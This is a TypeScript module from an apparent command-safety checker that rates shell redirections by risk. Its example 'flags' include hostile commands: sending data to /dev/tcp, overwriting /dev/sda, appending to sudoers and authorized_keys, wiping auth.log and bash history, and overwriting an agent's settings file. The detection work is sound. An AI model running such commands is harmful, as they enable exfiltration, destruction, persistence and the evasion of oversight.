import type { RedirectTo } from '../../command/invocation.ts';
import { grantsPower, isRegenerable, normalizePath, placeOf, secrecyOf } from '../../paths/paths.ts';
import { isAgentSettings, isGitHook, namesAccounts, runsByItself } from '../../paths/power-files.ts';
import type { Said } from '../../rule.ts';

interface RedirectRule extends Said {
  readonly when: (path: string, redirect: RedirectTo, cwd: string | undefined) => boolean;
  /** Commands whose redirection this line must flag; they stand in docs/risk.md, and a test judges each. */
  readonly flags: readonly string[];
  /** Near misses that this line must leave alone. */
  readonly spares: readonly string[];
}

const SOCKET = /^\/dev\/(?:tcp|udp)\//;
const SYSTEM = /^\/(?:etc|boot|bin|sbin|lib|lib32|lib64|sys|proc|usr(?!\/local\/src\/)|System)\//;

/** What reading may mean; the other lines are about writing. */
const READING: ReadonlySet<string> = new Set(['redirects.read-secret', 'redirects.socket']);

/** The file is emptied first, rather than added to. */
const replaces = (redirect: RedirectTo): boolean =>
  !redirect.operator.includes('>>') && redirect.operator !== '<>';

/** Where a command's output is written; the first line that fits decides. */
export const REDIRECT_RULES: readonly RedirectRule[] = [
  {
    rule: 'redirects.read-secret',
    tier: 'HIGH',
    label: 'credential_access',
    message: 'Reads a file of keys or passwords.',
    zh: '读取存放密钥或密码的文件。',
    when: (path, redirect) => redirect.operator === '<' && secrecyOf(path) === 'secret',
    flags: ['wc < ~/.ssh/id_ed25519', 'xargs -0 < /proc/42/environ'],
    spares: ['wc < ~/.ssh/id_ed25519.pub', 'wc < notes.txt'],
  },
  {
    rule: 'redirects.device',
    tier: 'CRITICAL',
    label: 'destructive_command',
    message: 'Writes over a disk, or makes the kernel do something at once.',
    zh: '覆写磁盘，或让内核立即执行操作。',
    when: (path) => placeOf(path) === 'device' || path === '/proc/sysrq-trigger',
    flags: ['echo x > /dev/sda', 'cat image > /dev/disk2', 'echo b > /proc/sysrq-trigger'],
    spares: ['echo x > /dev/null', 'echo x > sda'],
  },
  {
    rule: 'redirects.socket',
    tier: 'HIGH',
    label: 'exfiltration',
    message: 'Opens a connection to another machine.',
    zh: '打开与另一台机器的连接。',
    when: (path) => SOCKET.test(path),
    flags: ['cat notes > /dev/tcp/203.0.113.5/9', 'exec 3<>/dev/udp/203.0.113.5/53'],
    spares: ['echo x > /dev/stdout'],
  },
  {
    rule: 'redirects.grant-rights',
    tier: 'HIGH',
    label: 'privilege_escalation',
    message: 'Writes who has which account, and who may act as administrator.',
    zh: '写入账户信息，或谁可以充当管理员。',
    when: (path, _redirect, cwd) => namesAccounts(path, cwd),
    flags: ['echo x >> /etc/sudoers', 'echo x > /etc/sudoers.d/x', 'cat p > /etc/passwd'],
    spares: ['cat < /etc/passwd'],
  },
  {
    rule: 'redirects.grant-power',
    tier: 'HIGH',
    label: 'persistence',
    message: 'Writes a file that decides who may log in, or what runs at the next login or start.',
    zh: '写入决定谁能登录、或下次登录或启动时运行什么的文件。',
    when: (path, _redirect, cwd) => grantsPower(path, cwd),
    flags: ['echo key >> ~/.ssh/authorized_keys', 'echo x > /etc/cron.d/x'],
    spares: ['echo x > authorized_keys.md', 'cat < /etc/passwd'],
  },
  {
    rule: 'redirects.agent-settings',
    tier: 'HIGH',
    label: 'privilege_escalation',
    message: 'Writes the settings of an agent, or of Countersign: what it may do, and who is asked.',
    zh: '写入智能体或 Countersign 的设置：它可以做什么，以及向谁请求批准。',
    when: (path, _redirect, cwd) => isAgentSettings(path, cwd),
    flags: ['echo {} > ~/.claude/settings.json', 'cat x > .codex/hooks.json'],
    spares: ['cat < .claude/settings.json', 'echo x > .claude/notes.md'],
  },
  {
    rule: 'redirects.system',
    tier: 'HIGH',
    label: 'destructive_command',
    message: 'Writes into a system folder.',
    zh: '写入系统目录。',
    when: (path) => SYSTEM.test(path) || /^C:\/(?:windows|program files)/.test(path),
    flags: ['echo x > /etc/motd', 'echo 0 > /proc/sys/kernel/randomize_va_space'],
    spares: ['echo x > etc/motd', 'cat < /etc/motd'],
  },
  {
    rule: 'redirects.git-hook',
    tier: 'MEDIUM',
    label: 'persistence',
    message: 'Writes what git or a language runs by itself, or where packages are trusted from.',
    zh: '写入 git 或语言会自动运行的内容，或受信任的软件包来源。',
    when: (path, _redirect, cwd) => isGitHook(path, cwd) || runsByItself(path, cwd),
    flags: ["echo 'npm test' > .git/hooks/pre-push"],
    spares: ['echo x > .gitignore'],
  },
  {
    rule: 'redirects.log-emptied',
    tier: 'HIGH',
    label: 'destructive_command',
    message: 'Empties or overwrites a log or a history of what was done.',
    zh: '清空或覆写日志或操作历史。',
    when: (path, redirect) =>
      replaces(redirect) &&
      (/^\/var\/(?:log|audit)\/|^\/var\/run\/[uw]tmp$|^\/run\/utmp$/.test(path) ||
        /^~.*\/\.(?:bash|zsh|python|mysql|psql)_history$|^\/root\/\.\w+_history$/.test(path)),
    flags: ['> /var/log/auth.log', 'cat /dev/null > ~/.bash_history'],
    spares: ['date >> /var/log/app.log', 'echo x > app.log'],
  },
  {
    rule: 'redirects.data',
    tier: 'MEDIUM',
    label: 'destructive_command',
    message: 'Overwrites a file of a service, outside the working folder.',
    zh: '覆写工作目录之外、属于服务的文件。',
    when: (path, redirect, cwd) =>
      replaces(redirect) &&
      /^\/(?:srv|opt|var\/lib|var\/www|var\/spool|root)\//.test(path) &&
      !isRegenerable(path, cwd) &&
      (cwd === undefined || !path.startsWith(`${normalizePath(cwd)}/`)),
    flags: ['echo x > /var/lib/app/state', 'date > /srv/www/index.html'],
    spares: ['date >> /srv/notes', 'date > notes'],
  },
  {
    rule: 'redirects.file',
    tier: 'LOW',
    label: null,
    message: 'Writes a file.',
    zh: '写入一个文件。',
    when: (path) => !/^\/dev\/(?:null|zero|full|stdout|stderr|tty\w*|pts\/\d+|fd\/\d+)$|^nul$/i.test(path),
    flags: ['echo x > notes.txt', 'ls &> list'],
    spares: ['echo x > /dev/null', 'ls 2>&1', 'wc -l < notes.txt'],
  },
];

/** @returns what writing (or connecting) by this redirect means; null for reading and for descriptors */
export function judgeRedirect(redirect: RedirectTo, cwd: string | undefined): Said | null {
  const target = redirect.target.text;
  const path = normalizePath(target, cwd);
  const { operator } = redirect;
  if (operator.startsWith('<<')) return null;
  const onlyReads = operator === '<' || operator === '<&';
  if (operator === '>&' && /^(?:\d+-?|-|\$\{?\w+\}?(?:\[\d\])?)$/.test(target)) return null;
  const line = REDIRECT_RULES.find(
    (candidate) => (!onlyReads || READING.has(candidate.rule)) && candidate.when(path, redirect, cwd),
  );
  if (line === undefined) return null;
  const { rule, tier, label, message, zh } = line;
  return { rule, tier, label, message, zh };
}
